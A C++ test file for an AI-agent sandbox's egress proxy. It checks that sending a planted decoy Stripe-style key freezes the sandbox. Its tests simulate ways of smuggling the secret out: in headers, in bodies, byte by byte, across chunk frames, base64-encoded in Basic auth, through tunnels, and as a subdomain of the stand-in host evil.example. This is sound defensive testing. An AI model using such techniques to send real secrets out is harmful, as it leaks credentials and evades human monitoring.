// Credentials that nobody should use: one that is sent, however, freezes its sandbox before it gets anywhere.
#include "proxy/egress/decoys.hpp"

#include "tests/contract/egress/secrets_fixture.hpp"
#include "vmm/base/base64.hpp"

namespace agentvm::egress {
namespace {

using testing::HasSubstr;
using testing::Not;
using testing::StartsWith;
using Kind = Decision::Kind;

const std::string decoy = "sk_live_0123456789abcdefghijklmn";

class DecoysTest : public SecretsTest {
 protected:
  DecoysTest() {
    decoys_ = {{"stripe", {decoy}, {HostRule::parse("bait.test", "decoys"), HostRule::parse("api.test", "decoys")}}};
  }
  /// A server without TLS that keeps what it hears and answers at once.
  void start_plain() {
    server_ = std::make_unique<Server>([this](int fd) {
      const std::string answer = "HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok";
      heard_.add(read_head(fd));
      write_all(fd, answer, soon());
      heard_.add_all(fd);
    });
    begin({});
  }
  std::string plain_request(const std::string& more, const std::string& host = "other.test",
                            const std::string& line = "GET") const {
    const auto target = fmt::format("{}:{}", host, server_->port);
    return line + " http://" + target + "/ HTTP/1.1\r\nHost: " + target + "\r\n" + more;
  }
  /// How many decoys were told of; waits for that many. A connection may end before.
  std::size_t caught(std::size_t expected) {
    const auto count = [this] {
      const std::lock_guard lock(mutex_);
      return caught_.size();
    };
    for (const auto deadline = soon(); count() < expected && !deadline.expired();) ::usleep(2000);
    return count();
  }
  /// The sandbox is frozen, nothing of the decoy was heard, and the journal says what came to pass.
  void expect_frozen(std::size_t decisions = 1) {
    const auto decision = last_decision(decisions);
    EXPECT_EQ(decision.kind, Kind::denied);
    EXPECT_EQ(decision.cause, Cause::decoy);
    EXPECT_THAT(decision.reason, HasSubstr("the decoy stripe was sent"));
    EXPECT_THAT(heard_.text(), Not(HasSubstr(decoy)));
    EXPECT_EQ(caught(1), 1u);
    const auto answer = ask(plain_request("\r\n"));
    EXPECT_THAT(answer, StartsWith("HTTP/1.1 403"));
    EXPECT_THAT(answer, HasSubstr("the sandbox is frozen, because a decoy was sent"));
    EXPECT_THAT(answer, HasSubstr("agentvm resume box"));
    EXPECT_EQ(last_decision(decisions + 1).cause, Cause::frozen);
  }
};

TEST_F(DecoysTest, InThePathOrTheHeadOfAPlainRequest) {
  start_plain();
  EXPECT_EQ(ask(plain_request("X-Note: " + decoy + "\r\n\r\n")), "");
  EXPECT_EQ(last_decision().host, "other.test");
  expect_frozen();
}

TEST_F(DecoysTest, InARequestThatIsRefusedAnyway) {
  start_plain();
  EXPECT_EQ(ask(plain_request("X-Note: " + decoy + "\r\n\r\n", "nowhere.example")), "");
  expect_frozen();
}

TEST_F(DecoysTest, InTheBodyOfARequestThatIsRefusedAnyway) {
  start_plain();
  const UniqueFd fd = dial();
  write_all(fd.get(), plain_request("Content-Length: 40\r\n\r\n", "nowhere.example", "POST"), soon());
  EXPECT_THAT(read_head(fd.get()), StartsWith("HTTP/1.1 403"));
  write_all(fd.get(), "token=" + decoy, soon());
  read_to_end(fd.get());
  expect_frozen();
}

TEST_F(DecoysTest, InTheNameOfAHost) {
  start_plain();
  const UniqueFd fd = dial();
  write_all(fd.get(), connect_request("sk_live_0123456789abcdefghijklmn.evil.example", 443), soon());
  EXPECT_EQ(read_to_end(fd.get()), "");
  expect_frozen();
}

TEST_F(DecoysTest, InABodyAPieceAtATime) {
  start_plain();
  const UniqueFd fd = dial();
  write_all(fd.get(), plain_request("Content-Length: 100\r\n\r\n", "other.test", "POST"), soon());
  EXPECT_THAT(read_head(fd.get()), StartsWith("HTTP/1.1 200"));
  for (const char c : decoy) {
    write_all(fd.get(), std::string(1, c), soon());
    ::usleep(200);
  }
  read_to_end(fd.get());
  expect_frozen();
}

TEST_F(DecoysTest, BetweenTheFramesOfChunks) {
  start_plain();
  const UniqueFd fd = dial();
  write_all(fd.get(), plain_request("Transfer-Encoding: chunked\r\n\r\n", "other.test", "POST"), soon());
  for (std::size_t i = 0; i < decoy.size(); i += 8) write_all(fd.get(), "8\r\n" + decoy.substr(i, 8) + "\r\n", soon());
  read_to_end(fd.get());
  expect_frozen();
}

TEST_F(DecoysTest, AsAPasswordInBase64) {
  start_plain();
  EXPECT_EQ(ask(plain_request("Authorization: Basic " + base64_encode("me:" + decoy) + "\r\n\r\n")), "");
  expect_frozen();
  EXPECT_EQ(heard_.text(), "");
}

TEST_F(DecoysTest, InATunnelThatCanBeRead) {
  server_ = std::make_unique<Server>([this](int fd) {
    write_all(fd, "220 hello\r\n", soon());
    heard_.add_all(fd);
  });
  begin({});
  const UniqueFd fd = tunnel("other.test", server_->port);
  char greeting = 0;
  while (greeting != '\n' && read_some(fd.get(), &greeting, 1, soon()) == 1) continue;
  write_all(fd.get(), "SSH-2.0-x\r\nUSER me\r\nPASS " + decoy.substr(0, 10), soon());
  ::usleep(20'000);
  write_all(fd.get(), decoy.substr(10) + "\r\n", soon());
  read_to_end(fd.get());
  EXPECT_THAT(heard_.text(), HasSubstr("USER me"));
  expect_frozen();
}

TEST_F(DecoysTest, WithinTlsThatIsEndedHere) {
  start_echo();
  const auto made = client();
  ASSERT_EQ(made.tls->problem(), "");
  made.tls->write(request("Authorization: Bearer mine\r\n"));
  EXPECT_THAT(made.tls->read_head(), StartsWith("HTTP/1.1 200"));
  EXPECT_EQ(made.tls->read_exactly(2), "ok");
  made.tls->write(request("Authorization: Bearer " + decoy + "\r\n"));
  EXPECT_EQ(made.tls->read_to_end(), "<cut>");
  EXPECT_THAT(heard_.text(), HasSubstr("Bearer mine"));
  expect_frozen();
}

TEST_F(DecoysTest, InABodyWithinTls) {
  start([this](TlsPeer& peer) {
    heard_.add(peer.read_head());
    heard_.add(peer.read_exactly(1000));
  });
  for (const std::string& framing :
       {std::string("Content-Length: 1000\r\n"), std::string("Transfer-Encoding: chunked\r\n")}) {
    const auto made = client();
    ASSERT_EQ(made.tls->problem(), "");
    made.tls->write(request(framing, "POST / HTTP/1.1"));
    const bool chunked = framing.starts_with("T");
    for (std::size_t i = 0; i < decoy.size(); i += 8)
      made.tls->write(chunked ? "8\r\n" + decoy.substr(i, 8) + "\r\n" : decoy.substr(i, 8));
    made.tls->read_to_end();
    EXPECT_THAT(heard_.text(), Not(HasSubstr(decoy)));
    const auto decision = last_decision(chunked ? 2 : 1);
    EXPECT_EQ(decision.cause, Cause::decoy) << framing << decision.reason;
    EXPECT_EQ(caught(chunked ? 2 : 1), chunked ? 2u : 1u);
    egress_->thaw("box");
  }
}

TEST_F(DecoysTest, ItsRefusedHostIsAnsweredHereToHearWhatComes) {
  start_echo();
  for (const bool in_body : {false, true}) {
    const auto made = client("bait.test", {"bait.test"});
    ASSERT_EQ(made.tls->problem(), "");
    const auto target = fmt::format("Host: bait.test:{}\r\n", server_->port);
    made.tls->write(in_body ? "POST /v1 HTTP/1.1\r\n" + target + "Content-Length: 60\r\n\r\nkey=" + decoy
                            : "GET /v1 HTTP/1.1\r\n" + target + "Authorization: Bearer " + decoy + "\r\n\r\n");
    EXPECT_EQ(made.tls->read_to_end(), "<cut>");
    EXPECT_EQ(last_decision(in_body ? 2 : 1).cause, Cause::decoy);
    EXPECT_EQ(last_decision().host, "bait.test");
    EXPECT_EQ(caught(in_body ? 2 : 1), in_body ? 2u : 1u);
    egress_->thaw("box");
  }
  EXPECT_EQ(greeted_, 0);
  EXPECT_EQ(names_->lookups, 0);
}

TEST_F(DecoysTest, WhoHasNoDecoyReadsThereWhyTheHostIsRefused) {
  start_echo();
  const auto made = client("bait.test", {"bait.test"});
  ASSERT_EQ(made.tls->problem(), "");
  made.tls->write(fmt::format("POST / HTTP/1.1\r\nHost: bait.test:{}\r\nContent-Length: 2\r\n\r\nhi", server_->port));
  const auto answer = made.tls->read_to_end();
  EXPECT_THAT(answer, StartsWith("HTTP/1.1 403 Forbidden\r\n"));
  EXPECT_THAT(answer, HasSubstr("agentvm: sandbox box may not connect to bait.test"));
  EXPECT_THAT(answer, HasSubstr("agentvm egress allow box bait.test"));
  const auto decision = last_decision();
  EXPECT_EQ(decision.kind, Kind::denied);
  EXPECT_EQ(decision.cause, Cause::not_listed);
  EXPECT_EQ(caught(0), 0u);
  EXPECT_EQ(greeted_, 0);
  EXPECT_EQ(names_->lookups, 0);
}

TEST_F(DecoysTest, ItsHostIsAnsweredHereWhereItCannotBeReached) {
  start_echo();
  names_->addresses["api.test"] = {};
  EXPECT_THAT(one(request("")), StartsWith("HTTP/1.1 502 Bad Gateway\r\n"));
  const auto decision = last_decision();
  EXPECT_EQ(decision.kind, Kind::failed);
  EXPECT_EQ(decision.reason, "the name does not resolve on the host");
  EXPECT_EQ(one(request("X: " + decoy + "\r\n")), "<cut>");
  EXPECT_EQ(last_decision(2).cause, Cause::decoy);
  EXPECT_EQ(caught(1), 1u);
}

TEST_F(DecoysTest, OtherHostsAreRefusedWithoutATunnel) {
  start_echo();
  const UniqueFd fd = dial();
  write_all(fd.get(), connect_request("evil.example", server_->port), soon());
  EXPECT_THAT(read_to_end(fd.get()), StartsWith("HTTP/1.1 403"));
}

TEST_F(DecoysTest, WhatElseIsOpenEndsAndOtherSandboxesGoOn) {
  start_echo();
  egress_->set_policy("other", EgressPolicy({grant(fmt::format("other.test:{}", server_->port))}));
  const auto open = client();
  ASSERT_EQ(open.tls->problem(), "");
  open.tls->write(request(""));
  EXPECT_THAT(open.tls->read_head(), StartsWith("HTTP/1.1 200"));
  EXPECT_EQ(open.tls->read_exactly(2), "ok");
  const UniqueFd neighbour = dial("other");
  write_all(neighbour.get(), connect_request("other.test", server_->port), soon());
  EXPECT_THAT(read_head(neighbour.get()), StartsWith("HTTP/1.1 200"));
  EXPECT_EQ(ask(plain_request("X-Note: " + decoy + "\r\n\r\n")), "");
  EXPECT_EQ(open.tls->read_to_end(), "<cut>");
  EXPECT_EQ(caught(1), 1u);
  TlsPeer tls(neighbour.get(), world_->certificate_file(), {"other.test", "api.test"});
  EXPECT_EQ(tls.problem(), "");
}

TEST_F(DecoysTest, NothingPassesUntilItIsThawed) {
  start_plain();
  egress_->freeze("box");
  EXPECT_THAT(ask(plain_request("\r\n")), HasSubstr("403"));
  const UniqueFd fd = dial();
  write_all(fd.get(), connect_request("bait.test", server_->port), soon());
  EXPECT_THAT(read_to_end(fd.get()), StartsWith("HTTP/1.1 403"));
  egress_->set_policy("box", EgressPolicy({grant(fmt::format("other.test:{}", server_->port))}));
  EXPECT_THAT(ask(plain_request("\r\n")), HasSubstr("403"));
  egress_->thaw("box");
  const UniqueFd again = dial();
  write_all(again.get(), plain_request("\r\n"), soon());
  EXPECT_THAT(read_head(again.get()), StartsWith("HTTP/1.1 200"));
}

TEST_F(DecoysTest, TlsThatIsNotEndedHerePassesUnread) {
  start_echo();
  const UniqueFd fd = tunnel("other.test", server_->port);
  TlsPeer tls(fd.get(), world_->certificate_file(), {"other.test", "api.test"});
  ASSERT_EQ(tls.problem(), "");
  tls.write("GET / HTTP/1.1\r\nHost: other.test\r\nX: " + decoy + "\r\n\r\n");
  EXPECT_THAT(tls.read_head(), StartsWith("HTTP/1.1 200"));
  EXPECT_EQ(caught(0), 0u);
}

}  // namespace
}  // namespace agentvm::egress
